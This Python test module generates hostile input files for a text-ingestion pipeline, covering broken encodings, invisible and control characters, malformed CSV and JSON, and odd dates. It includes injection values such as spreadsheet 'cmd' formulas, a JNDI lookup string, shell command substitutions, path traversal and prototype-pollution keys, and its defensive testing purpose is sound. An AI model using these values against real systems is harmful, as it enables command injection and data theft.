"""Hostile inputs that are words: characters, numbers, scripts, queries, formulas, tables, lines and dates; a function a class."""

from __future__ import annotations

import json
import random
from collections.abc import Callable

from hostile_parts import BIDI, ENCODINGS, HOST, SHORTEST, UNSEEN, Files, damaged, line, page, paragraphs, scripts, story

# fmt: off
# Rows of literals stand as many on a line as it holds: one on each would be a thousand lines.

# ---------------------------------------------------------------- text


def encodings(source: random.Random) -> Files:
    text = story(1, who="Ärger Zürich naïve “Front”", more="Ελλάδα Москва 日本 — ½ €")
    for number, encoding in enumerate(ENCODINGS * 4):
        words = text.replace("incident number 1", f"incident number {number}").encode(encoding, "ignore")
        yield f"{number}.{('txt', 'csv', 'jsonl', 'md')[number % 4]}", b"text\n" + words if number % 4 == 1 else words
    for number, encoding in enumerate((*ENCODINGS, "x-user-defined", "utf-8", "base64", "rot13", "idna", "undefined", "unicode_escape")):
        yield f"p{number}.html", page(paragraphs(100 + number), f"<meta charset={encoding}>")
        feed = f"<rss><channel><item><description>{story(number)}</description></item></channel></rss>"
        yield f"q{number}.xml", f'<?xml version="1.0" encoding="{encoding}"?>{feed}'.encode()
    whole = text.encode()
    for number, content in enumerate(
        (
            whole[:-3] + b"\xe2\x80",
            b"\xc0\xaf" + whole, b"\xed\xa0\x80" + whole, b"\xf8\x88\x80\x80\x80" + whole, b"\xef\xbb\xbf\xef\xbb\xbf" + whole,
        )
    ):
        yield f"u{number}.txt", content
        yield f"u{number}.csv", b"text\n" + content
    yield "mixed.txt", whole + text.encode("cp1252", "ignore")
    yield "random.txt", source.randbytes(500)


def unseen_characters(source: random.Random) -> Files:
    for number in range(60):
        words = list(story(number, who=source.choice(("Red Front", "Army of Ada Roe", "Ministry"))))
        for _ in range(source.randint(1, 40)):
            words.insert(source.randrange(len(words)), source.choice(BIDI if number % 2 else UNSEEN))
        yield f"{number}.txt", "".join(words).encode()


def surrogates(source: random.Random) -> Files:
    del source
    for number, field in enumerate(("id", "text", "title", "publisher", "url", "language", "published", "x\\ud800")):
        for half in ("\\ud800", "\\udfff", "\\udc80\\ud83d", "\\ud83d\\ude00"):
            values = {"text": story(number), "title": "t", field.replace("\\ud800", "\ud800"): "@"}
            yield f"{number}{half[2:5]}{half[-3:]}.jsonl", json.dumps(values).replace('"@"', f'"{half} x"').encode()
    for number, head in enumerate(
        (
            '<script type="application/ld+json">{"@type":"NewsArticle","headline":"A \\ud800 b","publisher":{"name":"P \\udc00"}}</script>',
            "<title>A &#xD800; b</title>",
            '<meta property="og:title" content="A &#55296; b"><meta property="og:site_name" content="\ud83d">',
            '<link rel="canonical" href="https://example.org/\ud800">',
        )
    ):
        yield f"p{number}.html", page(paragraphs(number), head)
        yield (
            f"f{number}.rss",
            f"<rss><channel><title>&#xD800;</title><item><title>{head}</title><description>x</description></item></channel></rss>".encode(
                "utf-8", "surrogatepass"
            ),
        )


def shortest(source: random.Random) -> Files:
    del source
    for number, character in enumerate(SHORTEST):
        yield f"{number}.txt", character.encode()
        yield f"{number}.jsonl", line(id=f"short {number}", text=character)
    yield "empty.txt", b""
    yield "zero.jsonl", b""
    yield "blank.txt", b" \r\n\t\x0b\x0c"


def controls(source: random.Random) -> Files:
    for number, code in enumerate((*range(9), 11, 12, *range(14, 32), 127, 133, 155, 0xFFFE, 0xFFFF, 0xFDD0, 0x10FFFF)):
        character = chr(code)
        yield (
            f"{number}.jsonl",
            line(
                id=f"control {character} {number}",
                text=story(number, who=f"Red{character} Front"),
                title=f"a{character}b",
                publisher=f"{character}p",
            ),
        )
    yield "terminal.txt", story(1, who="\x1b]0;owned\x07\x1b[2J\x1b[31m Front").encode()
    yield "returns.txt", story(2).replace("\n", "\r").encode()
    yield "breaks.txt", story(3).replace(" ", source.choice("\x85\u2028\u2029\x0b\x0c")).encode()


def odd_letters(source: random.Random) -> Files:
    forms: tuple[Callable[[str], str], ...] = (
        lambda text: text.replace("i", "İ").replace("s", "ſ"),
        lambda text: "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text),
        lambda text: "".join(chr(0x1D400 + ord(c) - 65) if "A" <= c <= "Z" else c for c in text),
        lambda text: "".join(c + "".join(chr(source.randrange(0x300, 0x36F)) for _ in range(8)) for c in text),
        lambda text: text.replace("a", "а").replace("e", "е").replace("o", "ο"),
        lambda text: "".join(chr(0x660 + int(c)) if c.isdigit() else c for c in text),
        lambda text: text.replace(" ", "👩\u200d👩\u200d👧\u200d👦"),
        lambda text: text.replace("fi", "ﬁ").replace("ss", "ß").upper(),
        lambda text: text.swapcase(),
        lambda text: "\u0600\u06dd\u070f" + text + "\U000110bd",
    )
    for number in range(50):
        yield f"{number}.txt", forms[number % len(forms)](story(number)).encode()


def numbers(source: random.Random) -> Files:
    del source
    counts = (
        "9" * 400, "9" * 5000, "1e400", "1,2,3,4", "1.000.000,5", "-5", "0", "²³", "½", "٣٩", "1/0", "∞", "NaN", "10**9", "0x1F",
        "1,000" + ",000" * 50,
    )
    for number, count in enumerate(counts):
        yield (
            f"c{number}.txt",
            f"{story(number)}The blast killed {count} people. The death toll rose to {count}, down from {count}.".encode(),
        )
    times = (
        "0000-01-01", "9999-12-31", "2024-02-30", f"{'9' * 5000} years ago", "31 June 2023", "00/00/0000", "the 99th of May", "25:61 GMT",
        "year 0", "12/13/14/15",
    )
    for number, time in enumerate(times):
        for day in ("0001-01-01", "9999-12-31", "2024-02-29"):
            yield (
                f"t{number}-{day}.jsonl",
                line(
                    id=f"time {number} {day}",
                    text=story(number, more=f"It began on {time}, next week, last year and two days after the {time} attack."),
                    published=day,
                ),
            )


def long_runs(source: random.Random) -> Files:
    del source
    runs = (
        " ", "\n", "9", "a", "1,", "one ", ".", "“", '"',
        "(",
        "-", "'", "including ", "from ", "said that ", "of ", "U.S.", "the ", "https://a.b/", "e\u0301", "👩\u200d",
    )
    for number, run in enumerate(runs):
        times = 1500 // len(run)
        gap = run * times
        yield f"{number}.txt", f"Rebels killed 12{gap}people including{gap}3 children, down from{gap}14 to{gap}9, he said.".encode()



# ---------------------------------------------------------------- scripts, queries, paths


def scripts_in_fields(source: random.Random) -> Files:
    del source
    for field in ("title", "publisher", "url", "id", "language", "published"):
        for number in range(len(scripts(""))):
            mark = f"field-{field}-{number}"
            values = {"id": mark, "text": story(number, who=f"{field.title()} Front"), field: scripts(mark)[number]}
            yield f"{field}-{number}.jsonl", line(**values)


def scripts_in_text(source: random.Random) -> Files:
    del source
    for number in range(len(scripts(""))):
        for place, who in (("name", "{} Front"), ("middle", "Red {} Front"), ("after", "Red Front{}")):
            mark = f"text-{place}-{number}"
            words = scripts(mark)[number]
            yield f"{place}-{number}.txt", story(number, who=who.format(words), more=f"“{words}” said General {words} Roe.").encode()


def scripts_in_pages(source: random.Random) -> Files:
    del source
    for number in range(len(scripts(""))):
        words, mark = scripts(f"page-{number}")[number], f"page-{number}"
        quoted = words.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
        head = (
            f"<title>{quoted}</title><meta property='og:title' content=\"{quoted}\"><meta property='og:site_name' content=\"{quoted}\">"
            f'<meta property=\'og:url\' content="{quoted}"><link rel=canonical href="{quoted}"><meta name=author content="{quoted}">'
        )
        yield (
            f"{number}.html",
            page(f"<h1>{quoted}</h1>{paragraphs(number)}<p>The {quoted} Front said that it was ready for {mark} today.</p>{words}", head),
        )
        yield (
            f"{number}.md",
            f"---\ntitle: {words}\nsource: {words}\nurl: {words}\n---\n# {words}\n\n{story(number, who=words)}\n[a]({words})".encode(),
        )


def queries_in_fields(source: random.Random) -> Files:
    del source
    parts = (
        '" } ; DROP ALL #', "'''", '"""', "\\", "\\u0022", "> <urn:x> <urn:y", "<", "}{", "?x", "$x", "_:b", "^^<urn:x>", "@en", "%",
        "%00", "%2F..%2F", "a b", "a/b", "a#b", "a?b", "//", "..", ".", "~", "urn:x", "http://example.org/x", "mailto:a@b",
        "file:///etc/passwd", "|", "`", "'; --",
    )
    for number, part in enumerate(parts):
        for field in ("id", "title", "url"):
            values = {
                "id": f"query {number} {field}",
                "text": story(number, who=f"Red {part} Front", where=f"Kabul {part}"),
                field: f"{part}{number}{field}",
            }
            yield f"{number}-{field}.jsonl", line(**values)


def formulas(source: random.Random) -> Files:
    del source
    for number, start in enumerate(("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "|", ";=", '"=', "'=", " =", "\ufeff=")):
        cell = f"{start}cmd|' /C calc'!A0"
        yield f"f{number}.jsonl", line(id=f"{cell}{number}", text=story(number, who=f"{cell} Front"), title=cell, publisher=cell, url=cell)
        yield (
            f"h{number}.jsonl",
            line(
                id=f"link {number}", text=story(number), title=f'{start}HYPERLINK("https://{HOST}/formula-{number}","x")', publisher=start
            ),
        )
        yield f"t{number}.txt", f"{cell} {story(number, who=cell)}".encode()


def templates_and_paths(source: random.Random) -> Files:
    del source
    words = (
        "{{7*7}}", "${jndi:ldap://canary.invalid/a}", "%s%s%s%n", "{0.__class__}", "$(touch kg-pwned)", "`touch kg-pwned`",
        "; touch kg-pwned", "| touch kg-pwned", "../../../../tmp/kg-pwned", "/etc/passwd", "C:\\Windows\\x", "\\\\host\\share",
        "file:///etc/passwd", "~root", "con", "a\0b", "__proto__", "constructor",
    )
    for number, part in enumerate(words):
        yield (
            f"{number}.jsonl",
            line(id=part, text=story(number, who=f"{part.replace(chr(0), '')} Front"), title=part, publisher=part, url=part),
        )
        yield f"n{number}.jsonl", line(id=f"key {number}", text=story(number, where="Herat"), **{part: {part: part}})


# ---------------------------------------------------------------- tables, lines, dates


def broken_tables(source: random.Random) -> Files:
    text = story(1).replace("\n", " ").replace(",", "")
    bodies = (
        'text\n"', 'text\n"a\nb\n', "text,text\na,b\n", ",,,\na,b,c,d\n", "\n\n\n", "text", "text\n", '"text\n', "text\n" + '"' * 999,
        "te\0xt\na\n", "text\n\0\n", "text\n" + "," * 999, ",".join(f"c{n}" for n in range(2000)) + "\n", f"text;date\n{text};x\n",
        f"text\tdate\n{text}\tx\n", "text,date\n" + "a\n" * 99, f"text\r{text}\r", f"text\r\n\r\n{text}\r\n",
        f'"te""xt",text\n"",{text}\n', f"\ufefftext\n{text}\n", f"text\n{text}\x1a\n", f"TEXT,Text,text\na,b,{text}\n",
    )
    for number, body in enumerate(bodies):
        yield f"{number}.{'tsv' if number % 5 == 4 else 'csv'}", body.encode()
    for number in range(30):
        yield f"d{number}.csv", damaged(source, f'id,text,published\n1,"{story(number)}",2024-01-04\n2,"{story(number + 50)}",\n'.encode())


def broken_lines(source: random.Random) -> Files:
    text = json.dumps(story(1))
    bodies = (
        "NaN", "Infinity", "null", "true", "0", '""', "[]", "{}", "[" * 100_000, '{"text":' * 50_000, '{"text": ' + "9" * 5000 + "}",
        '{"text": 1e999}', '{"a": -0}', f'{{"text": {text}, "text": 5}}', f'{{"text": 5, "text": {text}}}',
        f'{{"text": {text}, "score": NaN}}', f'{{"text": {text}, "score": 1e999}}', f'{{"text": {text}, "__proto__": {{"x": 1}}}}',
        f'{{"text": {text}}} {{"text": {text}}}', f'{{"text": {text},}}', f"{{'text': {text}}}", f'{{"text": {text}',
        f'\ufeff{{"text": {text}}}', f'{{"TEXT": {text}}}', f'{{"te_xt": {text}}}', f'{{"body": {text}, "content": 5}}',
        f'{{"text": [{text}]}}', '{"text": "\\q"}',
        *(
            f'{{"text": {text}, "id": {value}}}'
            for value in ("5", "null", "true", "[]", "{}", '""', '" "', '"' + "x" * 100_000 + '"', "1e999", "-0")
        ),
        *(f'{{"text": {text}, "source": {value}}}' for value in ("5", "null", "[]", '{"name": "AP"}', '""', "NaN", "9" * 4000)),
        *(f'{{"text": {text}, "{"k" * size}": 1}}' for size in (0, 1, 100_000)),
        "{" + ",".join(f'"k{n}": 1' for n in range(50_000)) + f', "text": {text}}}',
    )
    for number, body in enumerate(bodies):
        yield f"{number}.jsonl", body.encode()
    for number in range(20):
        yield (
            f"d{number}.ndjson",
            damaged(source, b"\n".join(line(id=f"damaged {number} {n}", text=story(n * 20 + number)) for n in range(3))),
        )


def dates(source: random.Random) -> Files:
    del source
    days = (
        "", " ", "0", "0000-00-00", "0000-01-01", "0001-01-01", "9999-12-31", "10000-01-01", "-0001-01-01", "2024-13-01", "2024-02-30",
        "2024-1-1", "03/04/2024", "2024-01-03T25:00:00Z", "2024-01-03T00:00:00+99:99", "20240103", "2024-W01-3", "2024-001",
        "Thu, 04 Jan 2024 10:00:00 GMT", "Thu, 99 Jan 99999 10:00:00 GMT", "January 32, 2024", "9" * 5000, "1" * 20, "1704326400", "1e10",
        "NaN", "now", "tomorrow", "2024-01-03\u202e", "２０２４-０１-０３", "٢٠٢٤-٠١-٠٣", "2024-01-03\0",
        "2024-01-03T10:00:00.999999999999999999999Z", "Thu, 04 Jan 2024 10:00:00 +999999999",
        "(" * 5000,
        "Mon " * 2000, "\x85", "2024-01-03 -- DROP",
    )
    for number, day in enumerate(days):
        yield f"{number}.jsonl", line(id=f"date {number}", text=story(number), published=day)
        yield f"g{number}.jsonl", line(id=f"guessed {number}", text=story(number, where="Herat"), date=day)
        yield f"p{number}.html", page(paragraphs(number), f'<meta property="article:published_time" content="{day}">')
